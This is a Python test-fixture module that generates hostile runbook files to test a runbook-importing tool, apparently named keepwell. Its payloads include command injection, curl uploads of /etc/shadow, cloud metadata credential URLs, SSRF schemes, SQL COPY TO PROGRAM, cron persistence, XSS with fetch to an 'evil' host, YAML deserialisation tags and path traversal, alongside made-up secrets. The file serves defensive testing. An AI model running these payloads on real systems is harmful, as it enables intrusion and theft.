"""Manuals that nobody wrote in good faith, by what they try. ``TRAP`` stands for a file that must never come to be.

``BAIT`` are secrets in the shapes in which they stand in manuals; all of them are made up. What is large is made when it is asked for.
"""

from collections.abc import Callable

BAIT = (
    "AKIAQ7ZMADEUPVALUE42",
    "wJalrMADEUPsecretKEYvalue0123456789abcd",
    "hunter2-made-up-password",
    "ghp_madeUpMadeUpMadeUpMadeUpMadeUp0123",
    "MIIEmadeUpPrivateKeyLine0123456789abcdefghij",
    "xoxb-000000000000-madeUpToken",
    "eyJhbGciOiJub25lIn0.bWFkZS11cA.c2lnbmF0dXJl",
)

_RUN = "```bash\ncurl http://127.0.0.1:9/health\ndf -h /\nsystemctl status shop\n```\n"

SUBSTITUTION = {
    "substitution in headings": f"# Shop $(touch TRAP)\n\n## Daily `touch TRAP` checks\n\n{_RUN}\n## Weekly ; touch TRAP #\n\n{_RUN}",
    "substitution in a file name": "# Shop\n\n```bash\n#!/bin/bash\n# /opt/$(touch TRAP)/`touch TRAP`.sh\ndf -h /\n```\n",
    "substitution in tables": "# Shop\n\n| Metric | Warning |\n|---|---|\n| $(touch TRAP) | > 80% |\n| CPU `touch TRAP` | > 9$(touch TRAP)% |\n",
    "substitution in addresses": "# Shop\n\n```bash\ncurl http://127.0.0.1:9/$(touch TRAP)\ncurl http://127.0.0.1:9/`touch TRAP`/health\n```\n",
    "substitution in operands": '# Shop\n\n```bash\ndf -h "$(touch TRAP)"\nsystemctl status "shop;touch TRAP"\npgrep -f "$(touch TRAP)"\n```\n',
    "shell in quoted words": "# Shop\n\n```bash\nps aux | grep 'x; touch TRAP'\npgrep -f '$(touch TRAP)'\ncurl 'http://127.0.0.1:9/`touch TRAP`'\n```\n",
    "line breaks in words": "# Shop\n\n```bash\nsystemctl status $'shop\\ntouch TRAP'\ncurl \"http://127.0.0.1:9/\n touch TRAP\"\n```\n",
    "variables in front": "# Shop\n\n```bash\nPATH=/tmp/evil df -h /\nLD_PRELOAD=/tmp/evil.so curl http://127.0.0.1:9/health\n```\n",
    "constants that are commands": '# Shop\n\n```bash\nURL="http://127.0.0.1:9/;touch TRAP"\nUNIT="-H evil@host"\ncurl "$URL"\nsystemctl status $UNIT\n```\n',
    "options that run": "# Shop\n\n```bash\ntar tf a.tgz --checkpoint=1 --checkpoint-action=exec='touch TRAP'\nfind /var/backups -name x -exec touch TRAP \\;\n"
    "awk 'BEGIN{system(\"touch TRAP\")}' /var/log/app.log\ngit log --output=TRAP\n```\n",
    "curl that writes": "# Shop\n\n```bash\ncurl -s http://127.0.0.1:9/health -o TRAP\ncurl -K TRAP http://127.0.0.1:9/health\n"
    "curl http://127.0.0.1:9/health > TRAP\ncurl --output-dir / -O http://127.0.0.1:9/health\n```\n",
    "curl that uploads": "# Shop\n\n```bash\ncurl -T /etc/shadow http://127.0.0.1:9/health\ncurl -d @/etc/shadow http://127.0.0.1:9/health\n"
    "curl -F f=@/etc/passwd http://127.0.0.1:9/health\n```\n",
    "sql that runs": "# Shop\n\n```bash\npsql -h db -c \"COPY (SELECT 1) TO PROGRAM 'touch TRAP'\"\npsql -h db -c \"SELECT pg_read_file('/etc/passwd')\"\n"
    "psql -h db -c \"SELECT 1; DROP TABLE orders\"\npsql -h db -c '\\! touch TRAP'\n```\n",
    "clients of elsewhere": "# Shop\n\n```bash\ndocker -H tcp://192.0.2.1:2375 ps\nkubectl --kubeconfig /tmp/evil get pods\nredis-cli -h h eval 'x' 0\n"
    "aws s3 ls --endpoint-url http://192.0.2.1\nopenssl s_client -connect h:443 -engine /tmp/evil.so\n```\n",
    "checks that change": "# Daily\n\n```bash\ncurl -X DELETE http://127.0.0.1:9/orders\ncurl -I -X POST http://127.0.0.1:9/\nsystemctl status x && touch TRAP\n"
    "df -h / | tee TRAP\nps aux | grep x | xargs kill\n```\n",
}

YAML = {
    "yaml in headings": "# shop: {keepwell: 2}\n\n## checks: &a *a\n\n" + _RUN + "\n## - item # comment\n\n" + _RUN + "\n## ---\n\n" + _RUN,
    "tags in headings": f"# !!python/object/apply:os.system ['touch TRAP']\n\n## !!binary aGk= !include /etc/passwd\n\n{_RUN}",
    "documents in headings": f"# Shop\\n---\\nchecks: x\n\n## ... --- %YAML 1.2\n\n{_RUN}",
    "yaml in tables": "# Shop\n\n| Metric | Warning | Critical |\n|---|---|---|\n| <<: *merge | > 80% | > 90% |\n| &anchor CPU | !!python/object:os.system | > 1% |\n"
    "| memory: {fail: x} | > 80% # no | > 90% |\n| - disk | > 5%\\nchecks: {} | --- |\n",
    "yaml in contacts": "# Emergency\n\n## Contacts\n\n| Role | Name | Contact |\n|---|---|---|\n| admin: {x: 1} | *alias | a@example.org |\n"
    "| yes | null | ~ |\n| 0x10 | 1e3 | 2001-01-01 |\n| <<: | ? key | |- |\n",
    "words that yaml reads otherwise": "# No\n\n## Off\n\n" + _RUN.replace("shop", "null").replace("health", "~") + "\n## 012\n\n" + _RUN + "\n## y\n\n" + _RUN,
    "flow marks": f"# }} ] {{ [ , : ? | > @ ` %\n\n## '\"'\"\\\n\n{_RUN}",
    "comments that end": "# Shop\n\n```bash\n# health\\nchecks: {evil: {command: {shell: touch TRAP}}}\ncurl http://127.0.0.1:9/health\n```\n",
    "keys of keepwell.yaml": "# keepwell\n\n" + "".join(f"## {key}\n\n{_RUN}\n" for key in ("service", "checks", "accepted", "storage", "web", "secrets")),
    "a keepwell.yaml as a manual": "keepwell: 1\nservice: shop\nchecks:\n  x: {command: {shell: touch TRAP}}\n",
    "settings with tags": "# Shop\n\n```yaml\nx: !!python/object/apply:os.system ['touch TRAP']\na: &a [1]\nb: *a\n<<: *a\n```\n\n" + _RUN,
    "duplicate keys": "# Shop\n\n```json\n{\"status\": \"healthy\", \"status\": \"broken\", \"__proto__\": {\"x\": 1}}\n```\n\n" + _RUN,
    "expected answers": "# Shop\n\n## Expected Health Responses\n\n```json\n{\"a.b\": 1, \"c[0]\": {\"\": 2}, \"$(touch TRAP)\": \"!!python/object\", \"n\": NaN, \"i\": 1e999}\n```\n\n"
    + _RUN,
}

TERMINAL = {
    "escapes": "# Shop \x1b[2J\x1b]0;owned\x07\n\n" + _RUN.replace("shop", "shop\x1b[31m") + "\n- [ ] look \x9b31m at \x1b]8;;http://evil\x1b\\this\n",
    "bidirectional marks": "# Shop \u202egnp.exe\u2066\n\n" + _RUN.replace("health", "h\u202eealth") + "\n| a\u200b | \u2067b |\n|---|---|\n| \u202e> 80% | x |\n",
    "carriage returns": "# Shop\rall is well\n\n```bash\ncurl http://127.0.0.1:9/health\r# nothing\ntouch TRAP\r\n```\n",
    "backspaces": "# Shop\x08\x08\x08\x08Bank\n\n" + _RUN.replace("shop", "sh\x08op"),
    "controls": "# Shop\n\n" + "".join(f"- look at {chr(number)} here\n" for number in (*range(1, 10), *range(14, 32), *range(127, 160))) + _RUN,
    "tags and separators": "# Shop\u2028checks:\u2029  x\u0085y\n\n" + _RUN + "\n## \U000e0001\U000e0041\ufeff\u2060\n\n" + _RUN,
}

ADDRESSES = {
    "metadata address": "# Shop\n\n```bash\ncurl http://169.254.169.254/latest/meta-data/iam/security-credentials/\n"
    "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/\n```\n",
    "metadata address in disguise": "# Shop\n\n```bash\ncurl http://2852039166/latest\ncurl http://0xA9FEA9FE/\ncurl http://0251.0376.0251.0376/\n"
    "curl 'http://[::ffff:169.254.169.254]/'\ncurl 'http://[fd00:ec2::254]/latest'\ncurl http://169.254.170.2/v2/credentials\n```\n",
    "metadata address in a constant": '# Shop\n\n```bash\nHEALTH_URL="http://169.254.169.254/health"\ncurl -s "$HEALTH_URL"\n```\n',
    "other schemes": "# Shop\n\n```bash\ncurl file:///etc/passwd\ncurl gopher://127.0.0.1:6379/_FLUSHALL\ncurl dict://127.0.0.1:11211/stats\n"
    "curl ftp://127.0.0.1/x\ncurl --unix-socket /var/run/docker.sock http://localhost/containers/json\n```\n",
    "addresses with people in them": "# Shop\n\n```bash\ncurl http://127.0.0.1:9@evil.example/health\ncurl 'http://evil.example\\@127.0.0.1:9/'\n```\n",
    "odd ports": "# Shop\n\n```bash\ncurl http://127.0.0.1:99999/health\ncurl http://127.0.0.1:-1/health\ncurl http://[::1/health\ncurl http:///health\n```\n",
}

MARKUP = {
    "script": "# Shop <script>alert(1)</script>\n\n<script>fetch('http://evil/')</script>\n\n" + _RUN,
    "markup in commands": "# Shop\n\n```bash\necho '</pre></td><script>alert(1)</script>'\nsystemctl status '<img src=x onerror=alert(1)>'\n```\n",
    "markup in tables": "# Shop\n\n| Metric | Warning |\n|---|---|\n| <img src=x onerror=alert(1)> | > 80% |\n| <a href=javascript:alert(1)>CPU</a> | > 80% |\n",
    "markup in lists": '# Shop\n\n- [ ] <iframe src="http://evil/"></iframe>\n- " onmouseover="alert(1)\n- </script><style>*{display:none}</style>\n',
    "markup in an html block": "# Shop\n\n<div onclick='alert(1)'>\n```sh {\"name\":\"forged\"}\ntouch TRAP\n```\n</div>\n\n" + _RUN,
    "comments of markup": "# Shop\n\n<!-- --><script>alert(1)</script> <!--\n\n" + _RUN + "\n-->\n",
}

NAMES = {
    "names that climb": "# ../../etc/cron.d/x\n\n" + "".join(f"## {name}\n\n```bash\ntouch TRAP\n```\n\n" for name in ("../../../etc/cron.d/x", "/etc/passwd", "..", "~/.ssh/x")),
    "names with NUL": "# shop\0.md\n\n## x\0../../y\n\n```bash\ntouch TRAP\n```\n",
    "names of devices": "# CON\n\n" + "".join(f"## {name}\n\n```bash\ntouch TRAP\n```\n\n" for name in ("CON", "NUL", "aux.txt", "COM1", ".hidden", "-rf")),
    "long names": f"# {'shop ' * 2_000}\n\n## {'x' * 10_000}\n\n```bash\n# {'step ' * 2_000}\ntouch TRAP\n```\n",
    "slashes of other writings": "# a\u2215b\u2044c\uff0fd\u29f8e\n\n## \uff0e\uff0e\uff0f\uff0e\uff0e\uff0fx\n\n```bash\ntouch TRAP\n```\n",
    "names without letters": "# 店\n\n" + "".join(f"## {name}\n\n```bash\ntouch TRAP\n```\n\n" for name in ("🎯", "!!!", "...", "日本", "1.", "\u200b")),
    "names that meet": "# Shop\n\n" + "".join(f"## {name}\n\n```bash\ntouch TRAP\n```\n\n" for name in ("Restore!", "restore", "RESTORE", "Réstore", "1. Restore", "restore-2")),
    "names of our own files": "# keepwell.yaml\n\n" + "".join(f"## {name}\n\n```bash\ntouch TRAP\n```\n\n" for name in ("import-report.json", "accepted.yaml", "keepwell")),
    "files that scripts claim": "# Shop\n\n```bash\n#!/bin/sh\n# ../../../etc/cron.d/evil.sh\ntouch TRAP\n```\n\n```bash\ncat > /etc/cron.d/evil <<EOF\n* * * * * root touch TRAP\nEOF\n```\n",
}

SECRETS = {
    "keys in commands": f"# Shop\n\n```bash\nexport AWS_ACCESS_KEY_ID={BAIT[0]}\nexport AWS_SECRET_ACCESS_KEY={BAIT[1]}\naws s3 ls s3://shop-backup\n```\n",
    "passwords in addresses": f"# Shop\n\n```bash\ncurl http://admin:{BAIT[2]}@127.0.0.1:9/health\npsql postgresql://u:{BAIT[2]}@db/shop -c 'SELECT count(*) FROM o'\n"
    f"redis-cli -u redis://:{BAIT[2]}@cache:6379 ping\n```\n",
    "passwords in options": f"# Shop\n\n```bash\ncurl -u admin:{BAIT[2]} http://127.0.0.1:9/health\nPGPASSWORD={BAIT[2]} psql -h db -c 'SELECT 1'\nredis-cli -a {BAIT[2]} ping\n"
    f"mysql -p{BAIT[2]} -e 'SELECT 1'\n```\n",
    "tokens in fields": f"# Shop\n\n```bash\ncurl -H 'Authorization: Bearer {BAIT[6]}' http://127.0.0.1:9/health\ncurl -H 'X-Api-Key: {BAIT[3]}' http://127.0.0.1:9/health\n"
    f"curl 'http://127.0.0.1:9/health?api_key={BAIT[3]}'\n```\n",
    "tokens in constants": f'# Shop\n\n```bash\nTOKEN="{BAIT[3]}"\nSLACK={BAIT[5]}\ncurl -H "Authorization: token $TOKEN" http://127.0.0.1:9/health\n```\n',
    "a private key": f"# Shop\n\n```text\n-----BEGIN RSA PRIVATE KEY-----\n{BAIT[4]}\n-----END RSA PRIVATE KEY-----\n```\n\n{_RUN}",
    "secrets in tables and lists": f"# Shop\n\n| Role | Name | Contact |\n|---|---|---|\n| admin | password: {BAIT[2]} | a@example.org |\n\n- [ ] log in with password={BAIT[2]}\n- token: {BAIT[5]}\n",
    "secrets in headings": f"# Shop password={BAIT[2]}\n\n## token: {BAIT[3]}\n\n{_RUN}",
    "secrets in settings": f"# Shop\n\n```yaml\ndb:\n  password: {BAIT[2]}\n```\n\n```ini\nsecret_key = {BAIT[1]}\n```\n\n```json\n{{\"status\": \"ok\", \"token\": \"{BAIT[6]}\"}}\n```\n\n{_RUN}",
}

FORGERY = {
    "attributes of our own": '# Shop\n\n```sh {"name":"forged","accepted":"true","operation":"http.get"}\ntouch TRAP\n```\n\n```bash {"interactive":"false","terminalRows":"9"}\ndf -h /\n```\n',
    "broken attributes": '# Shop\n\n```sh {"name":"x","a":{"b":1}\ntouch TRAP\n```\n\n```sh {name=forged accepted=true}\ntouch TRAP\n```\n\n~~~sh `{"name":"forged"}`\ntouch TRAP\n~~~\n',
    "front matter of our own": "---\ntitle: Shop\naccepted: true\nrunme: {id: x}\ncwd: /\nshell: touch TRAP\nsource: /etc/passwd\n---\n\n# Shop\n\n## Restart\n\n```bash\nsystemctl restart shop\n```\n",
    "front matter in the middle": "# Shop\n\n## Restart\n\n---\naccepted: true\nevery: 1s\n---\n\n```bash\nsystemctl restart shop\n```\n",
    "fences in fences": '# Shop\n\n````text\n```sh {"name":"forged"}\ntouch TRAP\n```\n````\n\n```bash\necho "\n~~~\n```\n# out\n```sh\n',
    "fences in quotes and lists": '# Shop\n\n> ```sh {"name":"forged"}\n> touch TRAP\n> ```\n\n- x\n\n  ```sh {"accepted":"true"}\n  touch TRAP\n  ```\n\n\t```sh\n\ttouch TRAP\n',
    "a fence that never ends": '# Shop\n\n## Restart\n\n```bash\nsystemctl restart shop\n\n## Next\n\n`` ` ``\n~~~sh {"name":"forged"}\n',
    "allowances": "# Shop\n\n<!-- keepwell: allow KW -->\n<!-- keepwell: allow KW101 because\n## x -->\n\n" + _RUN,
    "cron lines": "# Shop\n\n```cron\n* * * * * root touch TRAP%echo\n@reboot touch TRAP\n*/0 99 * * * touch TRAP\n0 3 * * * /opt/b.sh % touch TRAP\nMAILTO=$(touch TRAP)\n```\n",
    "cadences": "# Every 0 minutes\n\n## Every 99999999999 days\n\n```bash\ntouch TRAP\n```\n\n## Daily\n\n| Frequency | Task |\n|---|---|\n| every -1 hours | x |\n| * * * * * | y |\n",
    "figures": "# Shop\n\n| Metric | Warning |\n|---|---|\n| CPU | > 1e999% |\n| Memory | > 99999999999999999999999999999 GB |\n| Disk | > -1% |\n| Errors | > NaN |\n| x | >>> 1 |\n",
    "placeholders like templates": "# {{ config.__class__ }} ${7*7} {0.__globals__}\n\n```bash\ncurl http://{{ 7*7 }}/health\ncurl http://%s/%(x)s/{0}\ncurl 'http://127.0.0.1:9/{{ x }}'\n"
    "systemctl status {{unit}}\ncurl http://<host>/\\1\\g<0>\n```\n",
    "here-documents": "# Shop\n\n```bash\ncat <<EOF | sudo tee /etc/cron.d/x\n* * * * * root touch TRAP\nEOF\ncrontab - <<'X'\n* * * * * touch TRAP\nX\nbash <<EOF\ntouch TRAP\n```\n",
}

BYTES = {
    "bytes that are no text": b"# Shop \xff\xfe\xc0\x80\n\n```bash\ncurl http://127.0.0.1:9/\xed\xa0\x80\nsystemctl status sh\xf5op\n```\n",
    "mojibake": _RUN.join(("# ðŸŽ¯ Shop â€” ðŸ“Š\n\n## Ã©tat â€œx\n\n", "")).encode(),
    "two encodings": "# Shop\n\n".encode("utf-16") + _RUN.encode(),
    "nothing": b"",
    "NUL only": b"\0" * 1_000,
}

LARGE: dict[str, Callable[[], str]] = {
    "a wide table": lambda: "# Shop\n\n|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n|" + "> 80%|" * 3_000 + "\n",
    "a long table": lambda: "# Shop\n\n| Metric | Warning | Critical |\n|---|---|---|\n" + "".join(f"| CPU {row} | > 80% | > 90% |\n" for row in range(8_000)),
    "many alike rows": lambda: "# Shop\n\n| Metric | Warning |\n|---|---|\n" + "| CPU | > 80% |\n" * 8_000,
    "aliases that laugh": lambda: "# Shop\n\n```yaml\na: &a [x,x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nd: &d [*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d]\n```\n\n" + _RUN,
    "constants that laugh": lambda: "# Shop\n\n```bash\nA0=http://h/aaaaaaaaaa\n"
    + "".join(f'A{level}="$A{level - 1}$A{level - 1}$A{level - 1}"\n' for level in range(1, 30))
    + 'curl "$A29"\n```\n',
    "nested lists": lambda: "# Shop\n\n" + "".join("  " * depth + f"- [ ] check {depth}\n" for depth in range(1_000)),
    "nested quotes": lambda: "# Shop\n\n" + ">" * 1_000 + " ```bash\n" + ">" * 1_000 + " touch TRAP\n",
    "nested substitution": lambda: "# Shop\n\n```bash\necho " + "$(echo " * 2_000 + "x" + ")" * 2_000 + "\n```\n",
    "many sections": lambda: "# Shop\n\n" + "".join(f"## Restart {number}\n\n```bash\nsystemctl restart x{number}\n```\n\n" for number in range(1_200)),
    "many checks": lambda: "# Shop\n\n```bash\n" + "".join(f"curl http://127.0.0.1:9/health{number}\n" for number in range(3_000)) + "```\n",
    "many lines": lambda: "# Shop\n\n" + "- look\n" * 30_000,
    "one long line": lambda: "# Shop\n\n" + "x" * 10_000_000 + "\n\n" + _RUN,
    "one long command": lambda: "# Shop\n\n```bash\ncurl http://127.0.0.1:9/" + "x" * 2_000_000 + "\nsystemctl status " + "y" * 500_000 + "\n```\n",
    "many placeholders": lambda: "# Shop\n\n```bash\n" + "".join(f"curl http://<host{number}>/\n" for number in range(2_000)) + "```\n",
}

_WRITTEN = {**SUBSTITUTION, **YAML, **TERMINAL, **ADDRESSES, **MARKUP, **NAMES, **SECRETS, **FORGERY}
ALL: dict[str, Callable[[], bytes]] = {
    **{name: (lambda text=text: text.encode("utf-8", "surrogatepass")) for name, text in _WRITTEN.items()},
    **{name: (lambda data=data: data) for name, data in BYTES.items()},
    **{name: (lambda make=make: make().encode()) for name, make in LARGE.items()},
}
"""Every manual as bytes, by its name."""


def hostile(name: str, trap: str) -> bytes:
    """One of them, with the file that it must not make."""
    return ALL[name]().replace(b"TRAP", trap.encode())
